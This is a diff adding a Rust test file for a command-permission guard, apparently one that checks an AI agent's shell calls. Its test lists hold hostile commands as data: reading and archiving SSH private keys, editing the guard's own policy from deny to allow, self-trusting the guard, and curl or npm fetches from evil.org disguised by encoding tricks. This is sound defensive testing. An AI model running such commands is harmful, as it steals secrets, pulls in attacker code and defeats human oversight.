@@ -1,0 +1,273 @@
+//! Paths and hosts that a call reaches without naming them: through an ancestor, a pattern, an
+//! output of another command, a variable, an archive.
+
+use guardian_facts::Facts;
+use guardian_rules::{
+    Decision, Grant, GrantScope, PermissionMode, Policy, Preset, Situation, evaluate,
+};
+
+use crate::build::{auto, policy, user};
+use crate::world::facts_of;
+
+/// Under `auto`, with the roots that the facts were made with.
+fn situated(facts: &Facts) -> Situation {
+    let mut situation = auto(facts);
+    situation.roots.guardian_data = "/home/dev/.local/share/guardian".into();
+    situation
+}
+
+#[track_caller]
+fn all(policy: &Policy, expected: Decision, commands: &[&str]) {
+    let wrong: Vec<String> = commands
+        .iter()
+        .filter_map(|command| {
+            let facts = facts_of(command);
+            let verdict = evaluate(&facts, &situated(&facts), policy);
+            (verdict.decision != expected)
+                .then(|| format!("{command}: {:?} {:?}", verdict.decision, verdict.reasons))
+        })
+        .collect();
+    assert!(wrong.is_empty(), "not {expected:?}: {wrong:#?}");
+}
+
+#[track_caller]
+fn check(expected: Decision, commands: &[&str]) {
+    all(&Policy::builtin(Preset::Standard), expected, commands);
+}
+
+#[track_caller]
+fn check_rules(rules: &str, expected: Decision, commands: &[&str]) {
+    all(
+        &policy(&[user(rules)], Preset::Standard),
+        expected,
+        commands,
+    );
+}
+
+#[test]
+fn taking_away_what_holds_guardian_or_keys_is_denied() {
+    check(
+        Decision::Deny,
+        &[
+            "mv ~/.config x",
+            "cd ~ && mv .config x",
+            "mv ~/.local x",
+            "rm -rf ~/.config",
+            "chmod -R 755 ~/.config",
+            "mv ~/.ssh x",
+            "rm -r ~/.ssh",
+            "zip -r x ~/.ssh",
+            "7z a x.7z ~/.ssh",
+            "cp -r ~/.ssh x",
+            "ln -s ~/.ssh x",
+            "mytool ~/.ssh/id_ed25519",
+            "mytool --key=/home/dev/.ssh/id_ed25519",
+            "ed ~/.config/guardian/policy.toml",
+            "echo x > $GUARDIAN_DATA_DIR/audit.key",
+            "cat $GUARDIAN_DATA_DIR/audit.key",
+        ],
+    );
+}
+
+#[test]
+fn what_might_reach_guardian_or_keys_is_asked_about() {
+    check(
+        Decision::Ask,
+        &[
+            "cp -r y/. ~/.config/",
+            "tar xf x.tar -C ~/.config",
+            "unzip x.zip -d ~/.config",
+            "rsync -a x/ ~/.config/",
+            "ln -sfn /tmp/x ~/.local",
+            "mv x ~/.local",
+            "cd ~/.con*/guard*; echo x > policy.toml",
+            "sed -i s/deny/allow/ $(find ~ -name policy.toml)",
+            "find ~/.config -name '*.toml' | xargs sed -i s/deny/allow/",
+            "for f in ~/.ss*/*; do cat $f; done",
+            "for f in ~/.ss*/*; do cat \"$f\"; done",
+            "find ~ -name 'id_*' | xargs cat",
+            "cat $(find ~ -name 'id_*')",
+            "find ~ -name 'id_*' | while read -r f; do cat \"$f\"; done",
+            "for f in $(find ~ -name 'id_*'); do cat \"$f\"; done",
+            "cd ~/.ss*; cat id_ed25519",
+            "pushd ~/.ss*; cat id_ed25519",
+            "cat /proc/$$/environ",
+            "cat ~root/.ssh/id_ed25519",
+            "zip -r x ~",
+            "ln -s ~ x",
+            "cat \"$X\"",
+            "read f < list; cat \"$f\"",
+            "cd $(mktemp -d); cd \"$X\"; cat a",
+            "cd /nowhere; cd ~/.ss*; cat id_ed25519",
+            "python3 -c \"import os; os.system('guardian trust --yes')\"",
+            "python3 -c \"print(open('/home/dev/.ssh/id_ed25519').read())\"",
+        ],
+    );
+}
+
+#[test]
+fn what_cannot_reach_them_is_not_asked_about() {
+    check(
+        Decision::Allow,
+        &[
+            "cat src/*.rs",
+            "cp -r src b",
+            "cp -r src/. b",
+            "cp notes.txt ~",
+            "mkdir -p ~/.config/other",
+            "for f in src/*.rs; do cat \"$f\"; done",
+            "for f in src/*.rs; do cat $f; done",
+            "git ls-files '*.rs' | xargs wc -l",
+            "sed -i s/a/b/ $(find src -name '*.rs')",
+            "find src -name '*.rs' | xargs sed -i s/a/b/",
+            "find src -name '*.rs' | sort | head -5 | xargs cat",
+            "find src -name '*.rs' | while read -r f; do cat \"$f\"; done",
+            "for f in $(find src -name '*.rs'); do cat \"$f\"; done",
+            "for f in $(git ls-files '*.rs'); do cp \"$f\" \"$f.bak\"; done",
+            "rg -l foo src | xargs sed -i s/a/b/",
+            "cat \"$(git rev-parse --show-toplevel)/README.md\"",
+            "echo x > out-$(date +%F).log",
+            "for i in 1 2 3; do echo x > out-$i.log; done",
+            "D=$(mktemp -d); cd \"$D\"; echo x > a; cat a",
+            "mkdir new; cd new; echo x > a; cat a",
+            "head -1 $(which npm)",
+            "test -f \"$X\" && echo yes",
+        ],
+    );
+}
+
+#[test]
+fn names_that_a_shell_splits_are_no_bound() {
+    // the look finds them on a real disk: see the host's tests; here the variable is the point
+    check(
+        Decision::Ask,
+        &[
+            "cat $(cat list)",
+            "for f in $(cat list); do cat \"$f\"; done",
+        ],
+    );
+}
+
+#[test]
+fn a_grant_inside_the_roots_does_not_cover_places_that_are_not_known() {
+    let lifted = policy(
+        &[user("overrides = [\"floor.unknown-path\"]\n")],
+        Preset::Standard,
+    );
+    for (command, expected) in [
+        ("touch \"$X\"", Decision::Ask),
+        ("cd \"$X\"; touch a", Decision::Ask),
+        ("touch src/a", Decision::Allow),
+    ] {
+        let facts = facts_of(command);
+        let mut situation = situated(&facts);
+        situation.permission_mode = PermissionMode::Ask;
+        situation.grants = vec![Grant {
+            tool_name: "Bash".to_owned(),
+            scope: GrantScope::Roots,
+        }];
+        assert_eq!(
+            evaluate(&facts, &situation, &lifted).decision,
+            expected,
+            "{command}"
+        );
+    }
+}
+
+const NO_EVIL: &str =
+    "[[rule]]\nid = \"no-evil\"\neffect = \"deny\"\nhost = [\"evil.org\", \"*.evil.org\"]\n";
+
+#[test]
+fn a_denied_host_is_denied_however_it_is_written() {
+    check_rules(
+        NO_EVIL,
+        Decision::Deny,
+        &[
+            "curl evil.org",
+            "curl EVIL.org.",
+            "curl http://%65vil.org",
+            "curl http://evil%2eorg",
+            "curl http:///evil.org",
+            "curl https://good.org@evil.org/x",
+            "curl evil\u{3002}org",
+        ],
+    );
+}
+
+#[test]
+fn a_host_that_is_not_named_might_be_a_denied_one() {
+    check_rules(
+        NO_EVIL,
+        Decision::Ask,
+        &[
+            "curl 'http://evi{l,k}.org'",
+            "curl --connect-to ::evil.org:443 https://api.example.com",
+            "curl --resolve api.example.com:443:6.6.6.6 https://api.example.com",
+            "curl -K file https://api.example.com",
+            "ALL_PROXY=evil.org curl https://api.example.com",
+            "export https_proxy=evil.org; curl https://api.example.com",
+            "wget -i list",
+            "git pull",
+            "git -c http.proxy=evil.org fetch https://x.org/y",
+            "npm install https://evil.org/x.tgz",
+            "pip install --index-url https://evil.org x",
+        ],
+    );
+    check_rules(
+        NO_EVIL,
+        Decision::Allow,
+        &[
+            "curl https://api.example.com",
+            "ls",
+            "git status",
+            "cargo build",
+        ],
+    );
+}
+
+const KEEP_GENERATED: &str = "[[rule]]\nid = \"generated\"\neffect = \"deny\"\naccess = [\"write\", \"delete\"]\npaths = [\"src/generated/**\"]\n";
+const PRIVATE: &str = "[[rule]]\nid = \"private\"\neffect = \"deny\"\naccess = [\"read\"]\npaths = [\"private/**\"]\n";
+
+#[test]
+fn sets_of_files_that_nobody_can_list_might_hold_a_denied_one() {
+    check_rules(
+        KEEP_GENERATED,
+        Decision::Ask,
+        &[
+            "git checkout .",
+            "git stash",
+            "git apply x.patch",
+            "patch -p1 < x",
+            "unzip x.zip -d src",
+            "perl -pi -e s/a/b/ src/generated/a.rs",
+            "ed src/generated/a.rs",
+        ],
+    );
+    check_rules(
+        PRIVATE,
+        Decision::Ask,
+        &[
+            "zip -r x.zip .",
+            "git grep x",
+            "git archive HEAD",
+            "docker build .",
+            "mv private pub",
+        ],
+    );
+    check_rules(
+        KEEP_GENERATED,
+        Decision::Allow,
+        &[
+            "unzip x.zip -d docs",
+            "cargo build",
+            "npm install",
+            "git status",
+            "touch src/a.rs",
+        ],
+    );
+    check_rules(
+        PRIVATE,
+        Decision::Allow,
+        &["mv src/a.rs src/b.rs", "cat src/a.rs", "git status"],
+    );
+}
